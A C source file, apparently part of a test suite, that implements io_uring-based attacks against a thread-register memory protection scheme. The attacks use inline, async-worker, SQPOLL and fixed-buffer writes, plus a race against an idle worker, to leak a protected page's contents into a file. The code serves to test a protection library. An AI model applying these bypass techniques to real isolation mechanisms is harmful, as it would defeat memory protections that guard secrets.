/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * by_ring.c: io_uring, whose work the kernel does in the caller, in a worker or in a poller.  These have the register
 * that the thread had which made them: one that was made while the region was open keeps it open for good.
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#define ENTRIES 4u

struct ring {
    int fd;
    bool polled;
    uint8_t *shared;
    struct io_uring_params p;
    struct io_uring_sqe *requests;
};

static _Atomic uint32_t *word_of(const struct ring *r, uint32_t offset) {
    return (_Atomic uint32_t *)(void *)(r->shared + offset);
}

static bool ring_make(struct ring *r, uint32_t flags) {
    memset(r, 0, sizeof *r);
    r->p.flags = flags;
    r->p.sq_thread_idle = 1000;
    r->polled = (flags & IORING_SETUP_SQPOLL) != 0;
    r->fd = (int)syscall(SYS_io_uring_setup, ENTRIES, &r->p);
    if (r->fd < 0) {
        return false;
    }
    CHECK((r->p.features & IORING_FEAT_SINGLE_MMAP) != 0);
    size_t bytes = r->p.cq_off.cqes + r->p.cq_entries * sizeof(struct io_uring_cqe);
    size_t other = r->p.sq_off.array + r->p.sq_entries * sizeof(uint32_t);
    int how = MAP_SHARED | MAP_POPULATE, may = PROT_READ | PROT_WRITE;
    r->shared = mmap(NULL, bytes > other ? bytes : other, may, how, r->fd, IORING_OFF_SQ_RING);
    r->requests = mmap(NULL, ENTRIES * sizeof *r->requests, may, how, r->fd, IORING_OFF_SQES);
    CHECK(r->shared != MAP_FAILED && (void *)r->requests != MAP_FAILED);
    return true;
}

/* Why there is none. */
static enum claim no_ring(void) {
    long disabled = number_in("/proc/sys/kernel/io_uring_disabled", 0);
    if (errno == EPERM && disabled != 0) {
        return missing("kernel.io_uring_disabled");
    }
    return errno == ENOSYS || errno == EPERM ? missing("the kernel or a sandbox has no io_uring") : broken("setup");
}

/* Puts a request in and waits for its result. */
static int ring_do(struct ring *r, const struct io_uring_sqe *request) {
    uint32_t tail = atomic_load(word_of(r, r->p.sq_off.tail)), at = tail & (r->p.sq_entries - 1);
    r->requests[at] = *request;
    ((uint32_t *)(void *)(r->shared + r->p.sq_off.array))[at] = at;
    atomic_store(word_of(r, r->p.sq_off.tail), tail + 1);
    uint32_t how = IORING_ENTER_GETEVENTS | (r->polled ? IORING_ENTER_SQ_WAKEUP : 0u);
    CHECK(syscall(SYS_io_uring_enter, r->fd, 1, 1, how, NULL, 0) >= 0);
    uint32_t head = atomic_load(word_of(r, r->p.cq_off.head));
    CHECK_SOON(atomic_load(word_of(r, r->p.cq_off.tail)) != head);
    const struct io_uring_cqe *results = (const void *)(r->shared + r->p.cq_off.cqes);
    int result = results[head & (r->p.cq_entries - 1)].res;
    atomic_store(word_of(r, r->p.cq_off.head), head + 1);
    return result;
}

/* Has it write these bytes to a file. */
static enum claim ring_write(struct ring *r, uint8_t operation, uint8_t flags, const void *bytes) {
    int fd = memory_file();
    const struct io_uring_sqe request = {
        .opcode = operation, .flags = flags, .fd = fd, .addr = (uint64_t)(uintptr_t)bytes, .len = LOOT_BYTES};
    int result = ring_do(r, &request);
    errno = result < 0 ? -result : 0;
    enum claim said = answered(result, EFAULT);
    return said == DONE ? loot_in_file(fd) : said;
}

static enum claim plain_write(const struct target *t, uint32_t ring_flags, uint8_t flags) {
    struct ring r;
    return ring_make(&r, ring_flags) ? ring_write(&r, IORING_OP_WRITE, flags, t->page) : no_ring();
}

ATTACK(attack_iouring_inline) {
    return plain_write(t, 0, 0);
}

ATTACK(attack_iouring_async) {
    return plain_write(t, 0, IOSQE_ASYNC);
}

ATTACK(attack_iouring_sqpoll) {
    return plain_write(t, IORING_SETUP_SQPOLL, 0);
}

ATTACK(attack_iouring_fixedbuf) {
    struct ring r;
    const struct iovec buffer = {t->page, ATTACK_PAGE};
    if (!ring_make(&r, 0)) {
        return no_ring();
    }
    enum claim said = answered(syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_BUFFERS, &buffer, 1), EFAULT);
    return said == DONE ? ring_write(&r, IORING_OP_WRITE_FIXED, 0, t->page) : said;
}

/* A worker is made when a request needs one; what the page's writer does then, is done by an idle one. */
static enum claim write_by_open_worker(const struct target *t, struct ring *r, uint32_t closed) {
    register_write(0);
    enum claim said = ring_write(r, IORING_OP_WRITE, IOSQE_ASYNC, value_buffer);
    register_write(closed);
    memset(report->loot, 0, LOOT_BYTES);
    return said == DONE ? ring_write(r, IORING_OP_WRITE, IOSQE_ASYNC, t->page) : said;
}

/* The library makes no threads while the region is open, so it is the attacker who opens it.  Whether the worker is
 * idle already when it is asked is a matter of luck: there is another try then. */
ATTACK(attack_iouring_open_worker) {
    struct ring r;
    uint32_t closed = register_now();
    if (!ring_make(&r, 0)) {
        return no_ring();
    }
    enum claim said = REFUSED;
    for (unsigned tries = 0; said == REFUSED && tries < 100; tries++) {
        said = write_by_open_worker(t, &r, closed);
    }
    note("%s", said == DONE ? "" : "no try of a hundred");
    return said;
}
